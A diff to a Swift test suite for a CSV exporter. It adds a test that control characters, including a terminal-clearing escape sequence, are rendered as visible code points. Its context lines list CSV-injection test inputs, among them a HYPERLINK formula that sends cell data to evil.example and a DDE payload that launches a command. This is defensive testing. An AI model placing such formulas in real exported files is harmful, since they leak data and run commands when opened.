@@ -54,6 +54,15 @@ struct EscapingTests {
         #expect(FindingsCSV.field("two\nlines") == "\"two\nlines\"")
     }
 
+    /// Control characters (a NUL, an ESC, DEL, C1's NEL) and U+FFFE show as `[U+XXXX]` in the
+    /// CSV; tab, LF and CR stay (quoted), and other text past ASCII is untouched.
+    @Test func csvShowsControlCharacters() {
+        #expect(FindingsCSV.field("C\u{1}\u{1B}[2J\u{7F}\u{85}\u{0}\u{FFFE}Z") == "C[U+0001][U+001B][2J[U+007F][U+0085][U+0000][U+FFFE]Z")
+        #expect(FindingsCSV.field("a\tb") == "\"a\tb\"")
+        #expect(FindingsCSV.field("20 °C, £5, ＡＢ") == "\"20 °C, £5, ＡＢ\"")
+        #expect(FindingsCSV.field("\u{0}=1") == "[U+0000]=1")
+    }
+
     /// A value from a log that a spreadsheet would run (CSV injection) is text there.
     @Test(arguments: ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                       "\t=1", "\r=1", "=", "-"])
